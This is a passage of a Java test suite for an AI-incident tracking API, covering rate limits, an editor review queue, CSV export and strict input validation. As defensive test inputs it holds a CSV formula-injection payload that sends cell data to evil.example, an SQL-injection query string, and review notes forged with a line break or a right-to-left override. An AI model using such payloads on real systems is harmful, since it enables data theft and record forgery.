    HttpResponse<String> limited = post("/api/incidents/reports", "other", String.format(report, 5, 5));
    assertEquals(429, limited.statusCode(), limited.body());
    assertEquals("30", limited.headers().firstValue("Retry-After").orElse(""));
    assertEquals(201, post("/api/incidents/reports", "analyst", String.format(report, 6, 6)).statusCode(), "each account has its own allowance");
  }

  @Test
  void anonymousReportsWaitForAnEditorBeforeTheyCount() throws Exception {
    long incidentsBefore = IngestTest.count(db, "SELECT COUNT(*) FROM incidents");
    String before = Json.read(get("/api/incidents/trends?granularity=month&from=2024-06-01&to=2024-06-30").body()).toString();
    // a flood of invented reports of one event: none of it may become incidents, trends or alerts by itself
    long first = -1;
    for (int k = 0; k < 30; k++) {
      HttpResponse<String> r = post("/api/incidents/reports", null, "{\"url\":\"https://flood.example/" + k + "\",\"title\":\"Military robot riot number " + k
          + " in the harbour\",\"text\":\"Armed drones attacked the harbour " + k + ".\",\"published\":\"2024-06-0" + (1 + k % 9) + "\"}");
      assertEquals(201, r.statusCode(), r.body());
      assertEquals("pending", Json.read(r.body()).get("review").asText());
      if (k == 0) first = Json.read(r.body()).get("record_id").asLong();
    }
    assertEquals(200, post("/api/incidents/cluster", "editor", "").statusCode());
    assertEquals(incidentsBefore, IngestTest.count(db, "SELECT COUNT(*) FROM incidents"), "pending reports are not merged or counted");
    assertEquals(before, Json.read(get("/api/incidents/trends?granularity=month&from=2024-06-01&to=2024-06-30").body()).toString());
    assertEquals(0, Json.read(post("/api/incidents/alerts/scan", "editor", "").body()).get("created").asInt(), "no alert from unreviewed reports");
    java.io.StringWriter export = new java.io.StringWriter();
    IncidentExport.writeCsv(db, export);
    assertTrue(export.toString().lines().filter(l -> l.contains("https://flood.example/")).allMatch(l -> l.startsWith("public,") && l.contains(",pending,")
        && l.split(",")[2].isEmpty()), "every record is exported; the waiting ones under no incident");
    // the queue is the editors': others are refused
    assertEquals(401, get("/api/incidents/reports/pending").statusCode());
    assertEquals(403, http.send(HttpRequest.newBuilder(URI.create(base + "/api/incidents/reports/pending")).header("Authorization", "Bearer analyst").GET().build(),
        HttpResponse.BodyHandlers.ofString()).statusCode());
    JsonNode queue = Json.read(http.send(HttpRequest.newBuilder(URI.create(base + "/api/incidents/reports/pending?limit=5")).header("Authorization", "Bearer editor")
        .GET().build(), HttpResponse.BodyHandlers.ofString()).body());
    assertEquals(30, queue.get("total").asLong());
    // an editor's read-only token reads it (QA of 2026-12-07: it was told its scopes "do not allow writing"), and reviews nothing
    HttpResponse<String> readOnly = send("GET", "/api/incidents/reports/pending?limit=5", "reader", null);
    assertEquals(200, readOnly.statusCode(), readOnly.body());
    assertEquals(30, Json.read(readOnly.body()).get("total").asLong());
    assertEquals(200, send("GET", "/api/incidents/suggestions?limit=5", "reader", null).statusCode());
    long waiting = queue.get("items").get(0).get("id").asLong();
    assertEquals(403, post("/api/incidents/reports/" + waiting + "/review", "reader", "{\"decision\":\"accept\"}").statusCode());
    assertEquals(first, queue.get("items").get(0).get("id").asLong(), "oldest first");
    assertEquals(403, post("/api/incidents/reports/" + first + "/review", "analyst", "{\"decision\":\"accept\"}").statusCode());
    HttpResponse<String> bad = post("/api/incidents/reports/" + first + "/review", "editor", "{\"decision\":\"maybe\"}");
    assertEquals(400, bad.statusCode());
    assertTrue(bad.body().contains("decision"), bad.body());
    assertEquals(404, post("/api/incidents/reports/1/review", "editor", "{\"decision\":\"accept\"}").statusCode(), "an AIID record is not in the queue");
    // one accepted: it is merged and counted at the next clustering run; one rejected: never
    JsonNode ok = Json.read(post("/api/incidents/reports/" + first + "/review", "editor", "{\"decision\":\"accept\",\"note\":\"confirmed by a wire report\"}").body());
    assertEquals("accepted", ok.get("review_status").asText());
    assertEquals("ed", ok.get("reviewed_by").asText());
    assertEquals("rejected", Json.read(post("/api/incidents/reports/" + (first + 1) + "/review", "editor", "{\"decision\":\"reject\"}").body()).get("review_status").asText());
    assertEquals(200, post("/api/incidents/cluster", "editor", "").statusCode());
    assertEquals(incidentsBefore + 1, IngestTest.count(db, "SELECT COUNT(*) FROM incidents"));
    assertEquals(1, IngestTest.count(db, "SELECT COUNT(*) FROM incident_members m JOIN incident_records r ON r.id = m.record_id WHERE r.url LIKE 'https://flood.example/%'"));
    assertEquals(28, Json.read(http.send(HttpRequest.newBuilder(URI.create(base + "/api/incidents/reports/pending")).header("Authorization", "Bearer editor")
        .GET().build(), HttpResponse.BodyHandlers.ofString()).body()).get("total").asLong());
  }

  /** The public download: every published record, streamed; anonymous reports only once accepted. */
  @Test
  void publicExportListsPublishedRecords() throws Exception {
    long pending = Json.read(post("/api/incidents/reports", null, "{\"url\":\"https://anon.example/p\",\"title\":\"Pending tip\"}").body()).get("record_id").asLong();
    long accepted = Json.read(post("/api/incidents/reports", null, "{\"url\":\"https://anon.example/a\",\"title\":\"Accepted tip\"}").body()).get("record_id").asLong();
    PublicReports.review(db, accepted, "accept", null, "ed");
    HttpResponse<String> r = get("/api/incidents/export.csv");
    assertEquals(200, r.statusCode());
    assertTrue(r.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"), r.headers().toString());
    assertTrue(r.headers().firstValue("Content-Disposition").orElse("").contains("incident-records.csv"));
    assertTrue(r.body().startsWith(String.join(",", IncidentExport.COLUMNS) + "\n"), r.body().substring(0, 200));
    assertTrue(r.body().contains("https://anon.example/a") && !r.body().contains("https://anon.example/p"), "pending " + pending + " is not published");
    long all = IngestTest.count(db, "SELECT COUNT(*) FROM incident_records");
    long rows = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build().parse(new java.io.StringReader(r.body())).stream().count();
    assertEquals(all - 1, rows, "every other record");
    java.io.StringWriter operator = new java.io.StringWriter();
    IncidentExport.writeCsv(db, operator);
    assertTrue(operator.toString().contains("https://anon.example/p"), "the operator's export lists every record");
  }

  /** A hostile title or facet value reaches the CSV files analysts open in spreadsheets as text, never as a formula. */
  @Test
  void csvCellsNeverStartAFormula() throws Exception {
    String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"see\")";
    assertEquals(201, post("/api/incidents/reports", "editor", Json.write(Map.of("url", "https://csv.example/1", "title", evil,
        "outlet", "@outlet", "published", "2024-06-01", "sectors", java.util.List.of("+sector")))).statusCode());
    new Clusterer(new Clusterer.Options(), Progress.silent()).run(db);
    java.io.StringWriter export = new java.io.StringWriter();
    IncidentExport.writeCsv(db, export);
    org.apache.commons.csv.CSVRecord row = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build()
        .parse(new java.io.StringReader(export.toString())).stream().filter(r -> "https://csv.example/1".equals(r.get("url"))).findFirst().orElseThrow();
    assertEquals("'" + evil, row.get("title"));
    assertEquals("'@outlet", row.get("outlet"));
    String trend = get("/api/incidents/trends?granularity=year&split=sector&format=csv").body();
    assertTrue(trend.contains(",'+sector,"), trend);
    assertFalse(trend.lines().anyMatch(l -> l.split(",").length > 1 && l.split(",")[1].startsWith("+")), trend);
  }

  /** Anonymous reports: a few a minute from one address, and none while the review queue is full. */
  @Test
  void anonymousReportsAreLimitedPerAddressAndByTheQueue() throws Exception {
    // a clock that stays inside one minute: the window is a clock minute, and the 61 posts could straddle two (seen once)
    routes.anonymous = org.aigov.observatory.kernel.PerMinute.stored("incident_reports_anon", 60, db, java.time.Clock.fixed(java.time.Instant.parse("2026-12-02T10:00:30Z"), java.time.ZoneOffset.UTC));
    for (int i = 0; i < routes.anonymous.limit(); i++) {
      assertEquals(201, post("/api/incidents/reports", null, "{\"title\":\"Tip " + i + "\",\"text\":\"report " + i + "\"}").statusCode());
    }
    HttpResponse<String> slow = post("/api/incidents/reports", null, "{\"title\":\"one too many\"}");
    assertEquals(429, slow.statusCode(), slow.body());
    long retry = Long.parseLong(slow.headers().firstValue("Retry-After").orElseThrow());
    assertTrue(retry >= 1 && retry <= 60, "retry after " + retry);
    assertEquals(0, IngestTest.count(db, "SELECT COUNT(*) FROM incident_records WHERE title = 'one too many'"));
    assertEquals(201, post("/api/incidents/reports", "analyst", "{\"title\":\"with a token\"}").statusCode(), "a token holder is not limited by address");
    assertEquals(201, post("/api/incidents/reports", "editor", "{\"title\":\"editor report\"}").statusCode(), "nor an editor");
  }

  /** Every body of this module is read strictly: a misspelt field is a 400 naming it, not silently nothing. */
  @Test
  void aFieldARouteDoesNotReadIsRefusedByName() throws Exception {
    HttpResponse<String> topic = post("/api/incidents/topics", "analyst", "{\"id\":\"fakes\",\"nmae_en\":\"Fakes\",\"terms_en\":[\"deepfake\"]}");
    assertEquals(400, topic.statusCode(), topic.body());
    assertEquals("nmae_en", Json.read(topic.body()).get("field").asText());
    assertEquals(404, get("/api/incidents/topics/fakes").statusCode(), "nothing was created");
    HttpResponse<String> sub = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"x\",\"series\":\"topic=military\",\"webhook\":\"https://example.org/h\"}");
    assertEquals(400, sub.statusCode(), sub.body());
    assertEquals("webhook", Json.read(sub.body()).get("field").asText(), "a misspelt webhook_url had made a subscription without one");
    HttpResponse<String> merge = post("/api/incidents/1/merge", "editor", "{\"wiht\":2}");
    assertEquals(400, merge.statusCode(), merge.body());
    assertEquals("wiht", Json.read(merge.body()).get("field").asText());
  }

  /** Two servers on one store share an address's allowance: it is counted in the store, not in each server's memory. */
  @Test
  void twoServersOnOneStoreShareTheAnonymousAllowance() throws Exception {
    Javalin second = Javalin.create();
    problems(second);
    IncidentsRoutes other = new IncidentsRoutes(db);
    other.routes(second);
    second.start(0);
    try {
      String otherBase = "http://127.0.0.1:" + second.port();
      assertEquals(201, http.send(HttpRequest.newBuilder(URI.create(otherBase + "/api/incidents/reports"))
          .POST(HttpRequest.BodyPublishers.ofString("{\"title\":\"Counted\"}")).header("Content-Type", "application/json").build(),
          HttpResponse.BodyHandlers.ofString()).statusCode());
      assertEquals(1, IngestTest.count(db, "SELECT COUNT(*) FROM kernel_rate_counts WHERE scope = 'incident_reports_anon'"),
          "a server counts anonymous reports in the store as it comes");
      java.time.Clock clock = java.time.Clock.fixed(java.time.Instant.parse("2026-12-03T10:00:30Z"), java.time.ZoneOffset.UTC);
      routes.anonymous = org.aigov.observatory.kernel.PerMinute.stored("incident_reports_anon", 4, db, clock);
      other.anonymous = org.aigov.observatory.kernel.PerMinute.stored("incident_reports_anon", 4, db, clock);
      int created = 0, limited = 0;
      for (int i = 0; i < 8; i++) {
        String b = i % 2 == 0 ? base : otherBase;
        HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(b + "/api/incidents/reports"))
            .POST(HttpRequest.BodyPublishers.ofString("{\"title\":\"Shared " + i + "\"}")).header("Content-Type", "application/json").build(),
            HttpResponse.BodyHandlers.ofString());
        if (r.statusCode() == 201) created++;
        else if (r.statusCode() == 429) limited++;
        else fail(r.statusCode() + " " + r.body());
      }
      assertEquals(4, created, "one allowance of 4 across both servers (each in memory allowed 4)");
      assertEquals(4, limited);
      assertEquals(4, IngestTest.count(db, "SELECT COUNT(*) FROM incident_records WHERE title LIKE 'Shared %'"));
      assertEquals(0, IngestTest.count(db, "SELECT COUNT(*) FROM kernel_rate_counts WHERE k LIKE '%127.0.0.1%'"), "addresses are kept as hashes");
    } finally {
      second.stop();
    }
  }

  /** Parameters a route ignored, or checked only sometimes, are refused by name (an outside QA pass, 2026-12-06). */
  @Test
  void parametersThatWereSilentlyIgnoredAreRefusedByName() throws Exception {
    String[][] cases = { // address, the parameter named
        {"/api/incidents/decisions?topic=military", "topic"}, {"/api/incidents/topics?x=1", "x"}, {"/api/incidents/feeds?x=1", "x"},
        {"/api/incidents/monitor?x=1", "x"}, {"/api/incidents/trends?alpha=2", "alpha"}, {"/api/incidents/trends?alpha=NaN", "alpha"},
        {"/api/incidents/trends?method=foo", "method"}, {"/api/incidents/trends?format=csv&spikes=1", "spikes"},
        {"/api/incidents/feed.atom?series=%3B%3B", "series"}, {"/api/incidents/alerts?series=%3B%3B", "series"}};
    for (String[] c : cases) {
      HttpResponse<String> r = get(c[0]);
      assertEquals(400, r.statusCode(), c[0] + ": " + r.body());
      assertEquals(c[1], Json.read(r.body()).get("field").asText(), c[0] + ": " + r.body());
    }
    assertEquals(200, get("/api/incidents/trends?format=csv").statusCode());
    assertEquals(200, get("/api/incidents/trends?spikes=1&alpha=0.01&method=poisson").statusCode());
    assertEquals(200, get("/api/incidents/decisions?limit=5").statusCode());
  }

  /** A full review queue pauses anonymous reports (checked with a fresh address window). */
  @Test
  void aFullReviewQueuePausesAnonymousReports() throws Exception {
    routes.maxPending = 2;
    for (int i = 0; i < 2; i++) assertEquals(201, post("/api/incidents/reports", null, "{\"title\":\"Queued " + i + "\"}").statusCode());
    HttpResponse<String> paused = post("/api/incidents/reports", null, "{\"title\":\"Queued 2\"}");
    assertEquals(503, paused.statusCode(), paused.body());
    assertTrue(paused.body().contains("2 anonymous reports are waiting for review"), paused.body());
    long first = Long.parseLong(IngestTest.one(db, "SELECT MIN(record_id) FROM incident_reviews"));
    // a review note is one visible line, as a decision note: a line break or a right-to-left override could forge an entry
    for (String forged : new String[] {"ok\nForged decision: accepted by admin", "ok\u202e accepted"}) {
      org.aigov.observatory.kernel.ApiException e = assertThrows(org.aigov.observatory.kernel.ApiException.class,
          () -> PublicReports.review(db, first, "reject", forged, "ed"));
      assertEquals(400, e.status);
      assertEquals("note", e.field);
    }
    assertEquals(PublicReports.PENDING, IngestTest.one(db, "SELECT status FROM incident_reviews WHERE record_id = " + first), "a refused review changes nothing");
    PublicReports.review(db, first, "reject", null, "ed");
    assertEquals(201, post("/api/incidents/reports", null, "{\"title\":\"Queued 2\"}").statusCode(), "a review makes room");
  }

  /** While an empty store's first bulk load runs (it holds the bulk gate), a post waits, then gets a 503 to retry. */
  @Test
  void aReportPostedDuringTheFirstBulkLoadIsRefusedWithRetryAfter() throws Exception {
    java.time.Duration was = Ingest.postWait;
    Ingest.postWait = java.time.Duration.ofMillis(300);
    java.sql.Connection gate = IngestLock.closeBulkGate(db, java.time.Duration.ZERO);
    assertNotNull(gate);
    try {
      HttpResponse<String> busy = post("/api/incidents/reports", "editor", "{\"url\":\"https://gate.example/1\",\"title\":\"During the load\"}");
      assertEquals(503, busy.statusCode(), busy.body());
      assertEquals("30", busy.headers().firstValue("Retry-After").orElse(""));
      assertEquals(Ingest.BULK_BUSY, Json.read(busy.body()).path("detail").asText());
      assertEquals(0, IngestTest.count(db, "SELECT COUNT(*) FROM incident_records WHERE title = 'During the load'"));
    } finally {
      IngestLock.openBulkGate(db, gate);
      Ingest.postWait = was;
    }
    HttpResponse<String> after = post("/api/incidents/reports", "editor", "{\"url\":\"https://gate.example/1\",\"title\":\"During the load\"}");
    assertEquals(201, after.statusCode(), after.body());
  }

  /** A report naming a stored record's (source, source_id) would update it: only an editor may do that. */
  @Test
  void aReportCannotRewriteSomeoneElsesRecord() throws Exception {
    HttpResponse<String> first = post("/api/incidents/reports", null,
        "{\"url\":\"https://tip.example/a\",\"title\":\"Original anonymous tip\",\"source_id\":\"t1\",\"published\":\"2024-05-01\"}");
    assertEquals(201, first.statusCode(), first.body());
    long id = Json.read(first.body()).get("record_id").asLong();
    String sid = IngestTest.one(db, "SELECT source_id FROM incident_records WHERE id = " + id);
    assertNotEquals("t1", sid, "the public does not choose ids");
    PublicReports.review(db, id, "accept", null, "ed");
    // the same id, or the derived one, from anyone without an editor's role: never an edit of the accepted report
    for (String who : new String[] {null, "analyst"}) {
      for (String as : new String[] {"t1", sid}) {
        HttpResponse<String> r = post("/api/incidents/reports", who,
            "{\"source\":\"public\",\"source_id\":\"" + as + "\",\"title\":\"Rewritten by " + who + "\",\"published\":\"2024-05-02\"}");
        assertTrue(r.statusCode() == 201 || r.statusCode() == 200, r.body());
      }
    }
    assertEquals("Original anonymous tip", IngestTest.one(db, "SELECT title FROM incident_records WHERE id = " + id));
    assertEquals("accepted", IngestTest.one(db, "SELECT review_status FROM incident_records WHERE id = " + id));
    // a token holder's own ids: theirs to update, nobody else's, and never a feed's or a monitor's
    String mine = "{\"source\":\"feed\",\"source_id\":\"n-7\",\"title\":\"Kelp drone report, first version\",\"published\":\"2024-05-03\"}";
    long own = Json.read(post("/api/incidents/reports", "analyst", mine).body()).get("record_id").asLong();
    assertEquals("api", IngestTest.one(db, "SELECT source FROM incident_records WHERE id = " + own));
    assertEquals("an:n-7", IngestTest.one(db, "SELECT source_id FROM incident_records WHERE id = " + own));
    assertEquals(200, post("/api/incidents/reports", "analyst", mine.replace("first", "second")).statusCode());
    assertEquals("Kelp drone report, second version", IngestTest.one(db, "SELECT title FROM incident_records WHERE id = " + own));
    HttpResponse<String> theirs = post("/api/incidents/reports", "other", mine.replace("first", "forged"));
    assertEquals(201, theirs.statusCode(), "another principal's n-7 is another record: " + theirs.body());
    assertEquals("Kelp drone report, second version", IngestTest.one(db, "SELECT title FROM incident_records WHERE id = " + own));
    HttpResponse<String> longId = post("/api/incidents/reports", "analyst", "{\"source_id\":\"" + "x".repeat(201) + "\",\"title\":\"t\"}");
    assertEquals(400, longId.statusCode());
    assertTrue(longId.body().contains("source_id"), longId.body());
    // an editor still corrects a monitor's record in place
    String aiid = IngestTest.one(db, "SELECT source_id FROM incident_records WHERE source = 'aiid' ORDER BY id LIMIT 1");
    assertEquals(200, post("/api/incidents/reports", "editor", "{\"source\":\"aiid\",\"source_id\":\"" + aiid + "\",\"title\":\"Corrected title\",\"published\":\"2020-01-01\"}").statusCode());
    assertEquals("Corrected title", IngestTest.one(db, "SELECT title FROM incident_records WHERE source = 'aiid' AND source_id = '" + aiid + "'"));
    String kept = "SELECT CONCAT(body, '|', deployers, '|', outlet, '|', risk_domain_label, '|', countries) FROM incident_records WHERE source = 'aiid' AND source_id = '" + aiid + "'";
    String before = IngestTest.one(db, kept);
    assertEquals(200, post("/api/incidents/reports", "editor", "{\"source\":\"aiid\",\"source_id\":\"" + aiid + "\",\"title\":\"Corrected again\"}").statusCode());
    assertEquals(before, IngestTest.one(db, kept), "what the correction does not send is kept: text, deployers, outlet, the monitor's label, countries");
    assertEquals("2020-01-01", IngestTest.one(db, "SELECT CAST(pub_date AS VARCHAR) FROM incident_records WHERE source = 'aiid' AND source_id = '" + aiid + "'"), "and the date it sent before");
    HttpResponse<String> madeUp = post("/api/incidents/reports", "editor", "{\"source\":\"aiid\",\"source_id\":\"99999\",\"title\":\"Not in the snapshot\",\"url\":\"https://example.org/a10\"}");
    assertEquals(400, madeUp.statusCode(), "a post makes up no entry of a monitor");
    assertTrue(madeUp.body().contains("source_id") && madeUp.body().contains("ingest aiid"), madeUp.body());
    assertEquals("0", IngestTest.one(db, "SELECT COUNT(*) FROM incident_records WHERE url = 'https://example.org/a10'"));
  }

  @Test
  void writesNeedTheRightPrincipal() throws Exception {
    HttpResponse<String> rep = post("/api/incidents/reports", null,
        "{\"url\":\"https://example.com/report\",\"title\":\"Robot vacuum maps homes\",\"text\":\"Privacy leak.\",\"published\":\"2024-05-01\",\"source\":\"aiid\"}");
    assertEquals(201, rep.statusCode(), rep.body());
    assertEquals("public", IngestTest.one(db, "SELECT source FROM incident_records WHERE url='https://example.com/report'"), "anonymous reports cannot pose as AIID");
    assertEquals(200, post("/api/incidents/reports", null, "{\"url\":\"https://example.com/report\",\"title\":\"again\"}").statusCode());
    assertEquals(400, post("/api/incidents/reports", null, "{\"published\":\"2024-05-01\"}").statusCode());
    assertEquals(400, post("/api/incidents/reports", null, "not json").statusCode());
    assertEquals(401, post("/api/incidents/topics", null, "{}").statusCode());
    HttpResponse<String> topic = post("/api/incidents/topics", "analyst",
        "{\"id\":\"robot-vacuums\",\"name_en\":\"Robot vacuums\",\"name_zh\":\"扫地机器人\",\"terms_en\":[\"robot vacuum\"],\"terms_zh\":[\"扫地机器人\"]}");
    assertEquals(201, topic.statusCode(), topic.body());
    assertEquals(409, post("/api/incidents/topics", "analyst", "{\"id\":\"robot-vacuums\",\"name_en\":\"x\",\"terms_en\":[\"y\"]}").statusCode());
    HttpResponse<String> sub = post("/api/incidents/subscriptions", "analyst", "{\"name\":\"mil\",\"series\":\"topic=military&granularity=month\"}");
    assertEquals(201, sub.statusCode(), sub.body());
    assertEquals(400, post("/api/incidents/subscriptions", "analyst", "{\"name\":\"x\",\"series\":\"planet=mars\"}").statusCode());
    JsonNode list = Json.read(get("/api/incidents?limit=100").body());
    long a = list.get("items").get(0).get("id").asLong(), b = list.get("items").get(1).get("id").asLong();
    assertEquals(403, post("/api/incidents/" + a + "/merge", "analyst", "{\"with\":" + b + "}").statusCode());
    // a JSON body declared as anything else is a 415, as a report's is (outside QA, 2026-12-07: text/plain merged)
    for (String type : new String[] {"text/plain", "application/x-www-form-urlencoded", "application/jsonp"}) {
      HttpResponse<String> typed = http.send(HttpRequest.newBuilder(URI.create(base + "/api/incidents/" + a + "/merge")).header("Authorization", "Bearer editor")
          .header("Content-Type", type).POST(HttpRequest.BodyPublishers.ofString("{\"with\":" + b + "}")).build(), HttpResponse.BodyHandlers.ofString());
      assertEquals(415, typed.statusCode(), type + ": " + typed.body());
    }
    HttpResponse<String> merged = post("/api/incidents/" + a + "/merge", "editor", "{\"with\":" + b + ",\"note\":\"same\"}");
    assertEquals(200, merged.statusCode(), merged.body());
    long survivor = Json.read(merged.body()).get("incident_id").asLong();
    // the incident merged away answers 404 and names where its records went, so a shared link leads on
    HttpResponse<String> gone = get("/api/incidents/" + Math.max(a, b));
    assertEquals(404, gone.statusCode(), gone.body());
    assertEquals(survivor, Json.read(gone.body()).get("merged_into").asLong(), gone.body());
    assertFalse(Json.read(get("/api/incidents/987654321").body()).has("merged_into"), "an id that never was names nothing");
    assertEquals("day", Json.read(get("/api/incidents/" + survivor).body()).get("date_precision").asText());
    JsonNode recs = Json.read(get("/api/incidents/" + survivor + "/records").body()).get("items");
    assertTrue(recs.size() >= 2);
    HttpResponse<String> split = post("/api/incidents/" + survivor + "/split", "editor", "{\"records\":[" + recs.get(recs.size() - 1).get("id").asLong() + "]}");
    assertEquals(200, split.statusCode(), split.body());
    assertEquals(400, post("/api/incidents/" + survivor + "/split", "editor", "{\"records\":[123456789]}").statusCode());
    assertEquals(200, post("/api/incidents/alerts/scan", "editor", "").statusCode());
    assertEquals(401, post("/api/incidents/alerts/scan", null, "").statusCode());
  }

  /**
   * Suggested merges are an editor's list; "different events" is a cannot-link that drops the suggestion and holds at the
   * next run; a bad body names its field and changes nothing.
   */
  @Test
  void editorsReadSuggestedMergesAndKeepAPairApart() throws Exception {
    Clusterer.Options strict = new Clusterer.Options();
    strict.threshold = 3; // every candidate pair is left apart and the best are suggested
    strict.suggestBand = 3;
    Clusterer.Stats st = new Clusterer(strict, Progress.silent()).run(db);
    assertTrue(st.suggestions > 1, st.toString());
    assertEquals(401, get("/api/incidents/suggestions").statusCode());
    assertEquals(403, send("GET", "/api/incidents/suggestions", "analyst", null).statusCode());
    HttpResponse<String> listed = send("GET", "/api/incidents/suggestions?limit=1000", "editor", null);
    assertEquals(200, listed.statusCode(), listed.body());
    JsonNode items = Json.read(listed.body()).get("items");
    assertEquals(st.suggestions, items.size());
    JsonNode first = items.get(0);
    long ra = first.get("a").get("record_id").asLong(), rb = first.get("b").get("record_id").asLong();
    assertNotEquals(first.get("a").get("incident_id").asLong(), first.get("b").get("incident_id").asLong());
    assertEquals(400, send("GET", "/api/incidents/suggestions?limit=0", "editor", null).statusCode());
    String firstReason = first.get("reason").asText();
    long sameReason = 0;
    for (JsonNode it : items) if (firstReason.equals(it.get("reason").asText())) sameReason++;
    JsonNode filtered = Json.read(send("GET", "/api/incidents/suggestions?limit=1000&reason=" + firstReason, "editor", null).body()).get("items");
    assertEquals(sameReason, filtered.size(), "only the suggestions of one reason");
    for (JsonNode it : filtered) assertEquals(firstReason, it.get("reason").asText());
    long inA = first.get("a").get("incident_id").asLong();
    long touching = 0;
    for (JsonNode it : items) if (it.get("a").get("incident_id").asLong() == inA || it.get("b").get("incident_id").asLong() == inA) touching++;
    JsonNode ofIncident = Json.read(send("GET", "/api/incidents/suggestions?limit=1000&incident=" + inA, "editor", null).body()).get("items");
    assertEquals(touching, ofIncident.size(), "the suggestions with a record in one incident");
    for (JsonNode it : ofIncident) assertTrue(it.get("a").get("incident_id").asLong() == inA || it.get("b").get("incident_id").asLong() == inA, it.toString());
    HttpResponse<String> badIncident = send("GET", "/api/incidents/suggestions?incident=12x", "editor", null);
    assertEquals(400, badIncident.statusCode(), badIncident.body());
    assertTrue(badIncident.body().contains("\"incident\"") && badIncident.body().contains("expected an incident id (a number), got '12x'"), badIncident.body());
    // one spelling per incident, as its address; and no parameter the route does not take (an outside QA pass)
    for (String q : new String[] {"incident=%2B" + inA, "incident=-1", "incident=%EF%BC%99%EF%BC%94", "incident=0" + inA, "foo=1"}) {
      HttpResponse<String> r = send("GET", "/api/incidents/suggestions?" + q, "editor", null);
      assertEquals(400, r.statusCode(), q + ": " + r.body());
      assertTrue(r.body().contains(q.startsWith("foo") ? "\"foo\"" : "\"incident\""), r.body());
    }
    HttpResponse<String> badReason = send("GET", "/api/incidents/suggestions?reason=x%27%20OR%20%271%27=%271", "editor", null);
    assertEquals(400, badReason.statusCode(), badReason.body());
    assertTrue(badReason.body().contains("\"reason\""), badReason.body());

    String[][] bad = { // body, the field named
        {"{\"record_b\":" + rb + "}", "record_a"},
        {"{\"record_a\":" + ra + ",\"record_b\":\"" + rb + "\"}", "record_b"},
        {"{\"record_a\":" + ra + ",\"record_b\":" + ra + "}", "record_b"},
        {"{\"record_a\":987654321,\"record_b\":" + rb + "}", "record_a"},
        {"{\"record_a\":" + ra + ",\"record_b\":" + rb + ",\"note\":\"" + "x".repeat(3000) + "\"}", "note"},
        {"{\"record_a\":" + ra + ",\"record_b\":" + rb + ",\"extra\":1}", "extra"}};
    for (String[] b : bad) {
      HttpResponse<String> r = post("/api/incidents/suggestions/keep-apart", "editor", b[0]);
      assertEquals(400, r.statusCode(), b[0] + " -> " + r.body());
      assertEquals(b[1], Json.read(r.body()).path("field").asText(), b[0] + " -> " + r.body());
    }
    assertEquals(403, post("/api/incidents/suggestions/keep-apart", "analyst", "{\"record_a\":" + ra + ",\"record_b\":" + rb + "}").statusCode());
    assertEquals(items.size(), Json.read(send("GET", "/api/incidents/suggestions?limit=1000", "editor", null).body()).get("items").size(), "nothing changed");

    HttpResponse<String> apart = post("/api/incidents/suggestions/keep-apart", "editor", "{\"record_a\":" + ra + ",\"record_b\":" + rb + ",\"note\":\"two events\"}");
    assertEquals(200, apart.statusCode(), apart.body());
    assertTrue(Json.read(apart.body()).get("decision_id").asLong() > 0);
    assertFalse(Json.read(send("GET", "/api/incidents/suggestions?limit=1000", "editor", null).body()).toString().contains("\"record_id\":" + ra + ","),
        "the pair is gone from the list");
    // kept by every later run: with the default threshold too, whatever their score
    Clusterer.Options loose = new Clusterer.Options();
    loose.threshold = -5;
    new Clusterer(loose, Progress.silent()).run(db);
    assertNotEquals(IngestTest.one(db, "SELECT incident_id FROM incident_members WHERE record_id = " + ra),
        IngestTest.one(db, "SELECT incident_id FROM incident_members WHERE record_id = " + rb));
    String together = IngestTest.one(db, "SELECT incident_id FROM incident_members GROUP BY incident_id HAVING COUNT(*) > 1 ORDER BY incident_id LIMIT 1");
    String x = IngestTest.one(db, "SELECT MIN(record_id) FROM incident_members WHERE incident_id = " + together),
        y = IngestTest.one(db, "SELECT MAX(record_id) FROM incident_members WHERE incident_id = " + together);
    HttpResponse<String> same = post("/api/incidents/suggestions/keep-apart", "editor", "{\"record_a\":" + x + ",\"record_b\":" + y + "}");
    assertEquals(400, same.statusCode(), same.body());
    assertTrue(same.body().contains("split the incident instead"), same.body());
  }

  /** Found by a hostile client (QA, 2026-12-02): each of these was a 500, a silent coercion or a trend thousands of years long. */
  @Test
  void hostileAndIllTypedInputIsRefusedNamingTheField() throws Exception {
    String[][] reports = { // body, the field named
        {"{\"title\":\"Year one\",\"published\":\"0001-01-01\"}", "published"},
        {"{\"title\":\"Far future\",\"published\":\"9999-12-31\"}", "published"},
        {"{\"title\":{\"a\":1}}", "title"},
        {"{\"title\":\"x\",\"authors\":42}", "authors"},
        {"{\"title\":\"x\",\"deployers\":[{\"name\":\"Acme\"}]}", "deployers"},
        {"{\"title\":\"x\",\"aiid_incident\":\"abc\"}", "aiid_incident"},
        {"{\"title\":\"x\",\"url\":\"ftp://example.org/a\"}", "url"},
        {"{\"published\":\"2024-01-01\"}", "title"},
        // QA of 2026-12-07: nothing a reader could see passed "title or text is required" and stored an empty record; a
        // null among list items went without a word; incident 0 is no AIID incident; an over-long list was cut short
        {"{\"title\":\"\\u200b\\u202e\"}", "title"},
        {"{\"title\":\"\\u0007\\u0008\",\"text\":\"\\u00ad \\u2060\\u00a0\"}", "title"},
        {"{\"title\":\"\\ufe0f\\u034f\\u0301\\u17b4\",\"text\":\"\\udb40\\udd00\\ufe00\"}", "title"}, // marks with nothing to mark
        {"{\"title\":\"x\",\"systems\":[\"A\",null]}", "systems"},
        {"{\"title\":\"x\",\"aiid_incident\":0}", "aiid_incident"},
        {"{\"title\":\"x\",\"sectors\":\"" + "s".repeat(2000) + "\"}", "sectors"},
        {"{\"title\":\"x\",\"harm_types\":[\"" + "h".repeat(3000) + "\",\"" + "i".repeat(1000) + "\"]}", "harm_types"}};
    for (String[] r : reports) {
      HttpResponse<String> resp = post("/api/incidents/reports", "analyst", r[0]);
      assertEquals(400, resp.statusCode(), r[0] + " -> " + resp.body());
      assertEquals(r[1], Json.read(resp.body()).path("field").asText(), r[0] + " -> " + resp.body());
    }
    assertEquals(201, post("/api/incidents/reports", "analyst", "{\"title\":\"Dated today\",\"url\":\"https://example.org/today\",\"published\":\""
        + java.time.LocalDate.now(java.time.ZoneOffset.UTC) + "\"}").statusCode(), "today is in range");
